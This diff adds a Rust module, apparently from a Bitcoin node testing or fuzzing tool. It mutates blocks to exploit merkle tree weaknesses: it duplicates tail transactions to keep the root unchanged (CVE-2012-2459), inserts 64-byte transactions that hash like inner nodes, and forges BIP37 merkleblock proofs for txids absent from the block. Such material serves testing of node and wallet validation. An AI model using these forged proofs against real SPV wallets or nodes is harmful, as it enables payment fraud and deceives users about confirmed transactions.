@@ -0,0 +1,183 @@
+use bitcoin::{
+    absolute::LockTime,
+    consensus::{encode::{self, VarInt}, Decodable, Encodable},
+    hashes::{sha256d, Hash},
+    merkle_tree::{MerkleBlock, PartialMerkleTree},
+    transaction::Version,
+    Amount, Block, OutPoint, ScriptBuf, Sequence, Transaction, TxIn, TxOut, Txid, Witness,
+};
+use rand::Rng;
+
+use crate::rng;
+
+/// Non-witness size of a transaction that hashes like an inner merkle node.
+pub const INNER_NODE_TX_SIZE: usize = 64;
+
+/// Processor for attacks on the transaction merkle tree
+pub struct MerkleTreeProcessor;
+
+impl MerkleTreeProcessor {
+    /// Append copies of the trailing transactions so the merkle root stays the
+    /// same (CVE-2012-2459). The first level with an odd number of nodes
+    /// already pairs its last node with itself, so repeating the transactions
+    /// under that node changes nothing above it.
+    ///
+    /// Returns false, leaving the block alone, when the transaction count is
+    /// a power of two, as no level pairs a node with itself.
+    pub fn duplicate_tail(block: &mut Block) -> bool {
+        let mut count = block.txdata.len();
+        let mut subtree = 1;
+        while count > 1 {
+            if count % 2 == 1 {
+                let tail = block.txdata[block.txdata.len() - subtree..].to_vec();
+                block.txdata.extend(tail);
+                return true;
+            }
+            count /= 2;
+            subtree *= 2;
+        }
+        false
+    }
+
+    /// A transaction whose non-witness serialization is exactly 64 bytes, the
+    /// size of the two child hashes of an inner merkle node
+    pub fn inner_node_tx() -> Transaction {
+        let mut rng = rng::rng();
+        Transaction {
+            version: Version::TWO,
+            lock_time: LockTime::ZERO,
+            input: vec![TxIn {
+                previous_output: OutPoint {
+                    txid: Txid::from_byte_array(rng.random()),
+                    vout: rng.random_range(0..4),
+                },
+                script_sig: ScriptBuf::new(),
+                sequence: Sequence::MAX,
+                witness: Witness::new(),
+            }],
+            // OP_RETURN and a 2-byte push fill the last 4 bytes
+            output: vec![TxOut {
+                value: Amount::ZERO,
+                script_pubkey: ScriptBuf::from_bytes(vec![0x6a, 0x02, rng.random(), rng.random()]),
+            }],
+        }
+    }
+
+    /// Insert a 64-byte transaction at a random position after the coinbase.
+    ///
+    /// Consensus still accepts it; relay policy rejects it as tx-size-small.
+    pub fn insert_inner_node_tx(block: &mut Block) {
+        let index = match block.txdata.len() {
+            0 => 0,
+            len => rng::rng().random_range(1..=len),
+        };
+        block.txdata.insert(index, Self::inner_node_tx());
+    }
+
+    /// Forge a `merkleblock` proving a txid that is not in the block.
+    ///
+    /// The proof claims twice as many transactions as the block has, which
+    /// adds a level under the real txids. Below the 64-byte transaction at
+    /// `index`, its two halves pose as leaves, and the second half is
+    /// reported as a matched txid. The proof still hashes up to the real
+    /// merkle root.
+    ///
+    /// Returns None when the transaction at `index` is not 64 bytes long.
+    pub fn forge_inner_node_proof(block: &Block, index: usize) -> Option<(MerkleBlock, Txid)> {
+        let inner_tx = block.txdata.get(index)?;
+        let bytes = encode::serialize(inner_tx);
+        if bytes.len() != INNER_NODE_TX_SIZE {
+            return None;
+        }
+
+        let tree = ForgedTree {
+            txids: block.txdata.iter().map(|tx| tx.compute_txid().to_byte_array()).collect(),
+            halves: [bytes[..32].try_into().ok()?, bytes[32..].try_into().ok()?],
+            matched_leaf: 2 * index + 1,
+        };
+        let mut hashes = vec![];
+        let mut bits = vec![];
+        tree.traverse(tree.height(), 0, &mut hashes, &mut bits);
+
+        // PartialMerkleTree keeps its fields private, so assemble its
+        // serialization and decode it
+        let mut raw = vec![];
+        (tree.leaves() as u32).consensus_encode(&mut raw).ok()?;
+        VarInt::from(hashes.len()).consensus_encode(&mut raw).ok()?;
+        hashes.iter().for_each(|hash| raw.extend_from_slice(hash));
+        let mut flags = vec![0u8; bits.len().div_ceil(8)];
+        for (position, bit) in bits.iter().enumerate() {
+            flags[position / 8] |= (*bit as u8) << (position % 8);
+        }
+        flags.consensus_encode(&mut raw).ok()?;
+        let txn = PartialMerkleTree::consensus_decode(&mut raw.as_slice()).ok()?;
+
+        Some((
+            MerkleBlock { header: block.header, txn },
+            Txid::from_byte_array(tree.halves[1]),
+        ))
+    }
+}
+
+// Merkle tree whose leaves pair up into the real txids, with the halves of a
+// 64-byte transaction as the only known pair
+struct ForgedTree {
+    txids: Vec<[u8; 32]>,
+    halves: [[u8; 32]; 2],
+    matched_leaf: usize,
+}
+
+impl ForgedTree {
+    fn leaves(&self) -> usize {
+        2 * self.txids.len()
+    }
+
+    fn width(&self, height: u32) -> usize {
+        (self.leaves() + (1 << height) - 1) >> height
+    }
+
+    fn height(&self) -> u32 {
+        let mut height = 0;
+        while self.width(height) > 1 {
+            height += 1;
+        }
+        height
+    }
+
+    fn hash(&self, height: u32, position: usize) -> [u8; 32] {
+        match height {
+            0 => self.halves[position % 2],
+            1 => self.txids[position],
+            _ => {
+                let left = self.hash(height - 1, 2 * position);
+                let right = if 2 * position + 1 < self.width(height - 1) {
+                    self.hash(height - 1, 2 * position + 1)
+                } else {
+                    left
+                };
+                sha256d::Hash::hash(&[left, right].concat()).to_byte_array()
+            }
+        }
+    }
+
+    // Depth-first walk of BIP37: a flag per node telling whether it is above
+    // the match, and a hash for every node that is not descended into
+    fn traverse(
+        &self,
+        height: u32,
+        position: usize,
+        hashes: &mut Vec<[u8; 32]>,
+        bits: &mut Vec<bool>,
+    ) {
+        let above_match = self.matched_leaf >> height == position;
+        bits.push(above_match);
+        if height == 0 || !above_match {
+            hashes.push(self.hash(height, position));
+            return;
+        }
+        self.traverse(height - 1, 2 * position, hashes, bits);
+        if 2 * position + 1 < self.width(height - 1) {
+            self.traverse(height - 1, 2 * position + 1, hashes, bits);
+        }
+    }
+}